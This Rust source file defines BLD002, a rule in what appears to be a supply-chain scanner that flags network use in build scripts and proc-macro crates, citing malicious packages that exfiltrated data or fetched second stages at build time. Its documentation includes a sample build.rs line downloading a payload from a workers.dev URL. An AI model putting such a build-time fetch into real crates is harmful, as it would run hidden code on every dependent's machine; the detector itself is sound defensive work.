use super::verifies_download;
use crate::facts::Cap;
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo};

pub static INFO: RuleInfo = RuleInfo {
    code: "BLD002",
    name: "build-time-network",
    family: Family::Build,
    severity: Severity::High,
    summary: "a build script or proc-macro uses the network",
    doc: "## What it detects\nNetwork APIs (HTTP clients, sockets, DNS) in a build script or in a proc-macro crate's code.\n\n## Why\nBuild-time code runs on every build of every dependent; network access there can fetch payloads or send data out, and breaks offline and reproducible builds. The amaperf cluster posted to Telegram from `build.rs`; proc-macro1 downloaded its second stage there.\n\n## Example\n```rust\n// build.rs\nlet r = reqwest::blocking::get(\"https://x.workers.dev/p\")?;\n```\n\n## Known false positives\n-sys crates that download a pinned release when no system library is found. When the build code verifies a checksum the finding is medium, not high.",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        let verified = verifies_download(i.facts);
        for f in i.facts.files.iter().filter(|f| f.context.runs_at_build()) {
            if let Some(e) = f.find(|c| matches!(c, Cap::Network { .. })) {
                let Cap::Network { api, .. } = &e.cap else { continue };
                let sev = if verified { Severity::Medium } else { Severity::High };
                let note = if verified { " (the build code verifies a checksum)" } else { "" };
                out.push(Hit::new(sev, &f.path, e.line, format!("{} uses the network: `{api}`{note}", f.context.as_str())));
            }
        }
    }
}
